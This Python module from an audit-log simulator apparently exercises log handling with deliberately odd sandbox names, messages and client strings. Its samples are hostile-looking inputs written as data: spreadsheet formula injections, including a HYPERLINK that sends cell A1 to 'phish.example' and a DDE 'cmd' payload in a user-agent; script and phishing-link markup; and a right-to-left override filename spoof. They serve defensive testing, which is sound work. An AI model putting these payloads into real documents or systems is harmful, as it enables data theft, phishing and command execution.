"""Odd but legal content: every text in a log may have been written by anybody."""

from __future__ import annotations

from dataclasses import replace

from audit_core.simulator.activity import operations
from audit_core.simulator.activity.operations import SANDBOX
from audit_core.simulator.world import Estate, Process, World

FORMULA_NAMES = (
    '=HYPERLINK("https://phish.example/?q="&A1,"Open report")',
    "+SUM(1+1)*2",
    "@IMPORTXML(A1)",
    "-2+3",
    "\t=1+1",
)
"""Names that a spreadsheet would run."""

MARKUP_NAMES = (
    "![logo](https://tracker.example/pixel.png)",
    "<script>alert('audit')</script>",
    "[reset your password](https://phish.example)",
    ":red[ALERT] **bold** $x^2$",
)
"""Names that a page would draw as something else."""

UNICODE_NAMES = (
    "песочница-7",
    "沙箱-八",
    "صندوق",
    "boîte 🏖️ à sable",
    "a\u202egnp.exe",
    "zero\u200bwidth",
)

UNKNOWN = (
    ("quantum_entangle", "sandbox"),
    ("rebalance", "gpu_pool"),
    ("toolbox_lsp_start", "sandbox"),
    ("attach", "persistent_disk"),
    ("sign", None),
)
"""(action, target type) that nobody has told us about."""

_LOG_LINE = "step {}/400: RUN pip install --no-cache-dir package-{}=={}.0.1 ... exit code {}\n"


def _long_message() -> str:
    lines = [_LOG_LINE.format(n, n * 7 % 101, n % 9, 0 if n < 60 else 1) for n in range(1, 61)]
    return "Sandbox failed to start: Failed to build snapshot\n" + "".join(lines)


def odd_names(world: World, estate: Estate) -> Process:
    """Somebody tries names that are formulas, markup and unusual letters."""
    person = world.pick(estate.organization.people[3:])
    actor = person.office[-1]
    for name in (*FORMULA_NAMES, *MARKUP_NAMES, *UNICODE_NAMES):
        planned = operations.plan_sandbox(world, estate, actor, name=name)
        _, sandbox = operations.create(world, estate, actor, sandbox=planned)
        yield 20 + 40 * world.random.random()
        if sandbox is not None:
            operations.delete(world, estate, actor, sandbox)
            yield 2 + 5 * world.random.random()
        else:
            world.request(
                estate,
                actor,
                "start",
                SANDBOX,
                name,
                status=404,
                message=f"Sandbox with ID or name {name} not found",
            )
            yield 2.0


def odd_texts(world: World, estate: Estate) -> Process:
    """Unknown actions, long messages with line breaks, names as targets, strange clients."""
    person = world.pick(estate.organization.people[2:])
    actor = person.office[-1]
    for action, target_type in UNKNOWN:
        world.request(
            estate,
            actor,
            action,
            target_type,
            None if target_type is None else world.journal.new_id(),
            metadata={"body": {"note": "line one\nline two", "nested": {"depth": [1, [2, [3]]]}}},
        )
        yield 9 * 60 * world.random.random()
    strange = replace(actor, user_agent="=cmd|' /C calc'!A0", source="my-own-client")
    for target in (FORMULA_NAMES[0], MARKUP_NAMES[0], UNICODE_NAMES[0]):
        world.request(
            estate,
            strange,
            "start",
            SANDBOX,
            target,
            status=404,
            message=f"=1+1; sandbox {target} not found\r\nTry again.",
        )
        yield 40 * world.random.random()
    snapshot = world.pick(estate.organization.snapshots)
    world.request(
        estate,
        actor,
        "create",
        "snapshot",
        None,
        metadata={"body": {"name": snapshot + "-next", "buildInfo": {"dockerfile": "FROM base\n"}}},
        status=400,
        message=_long_message(),
        duration_s=25.0,
    )
